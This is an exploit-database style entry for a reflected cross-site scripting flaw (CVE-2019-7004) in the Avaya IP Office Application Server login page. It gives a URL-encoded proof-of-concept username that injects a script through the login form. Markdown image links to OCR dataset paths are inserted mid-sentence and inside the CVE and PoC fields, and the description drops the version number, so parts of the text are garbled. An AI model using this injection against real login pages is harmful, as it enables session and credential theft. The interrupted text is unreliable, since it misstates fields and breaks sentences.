# Exploit Title: Avaya IP Office Application Server - Reflective Cross-Site Scripting
# Release Date: 2019-12-11
# Exploit Authors: Dan Bohan, Scott Goodwin, OCD Tech
# Vendor Homepage:
# Software Link:
# Vulnerable Version: 11.0 FP4 SP1 and before
# Tested on:
# CVE:CVE-2019-7004
# Vendor Advisory: ASA-2019-213
# References:
Avaya IP Office version and before has avulnerable login page (username) which is susceptible to cross-site scripting (XSS) via a POST request due to improper sanitization of user input. XSS via a post request allows for arbitrary code to be executed on the client’s system in the security context of the browser. By submitting a specially crafted username, it is possible to execute arbitrary JavaScript.
# PoC
Username:41529%22%2F%3E%0A%3Cscript%3Ealert%28%27XSS%21%27%29%3B%3C%2Fscript%3E
Password: Anything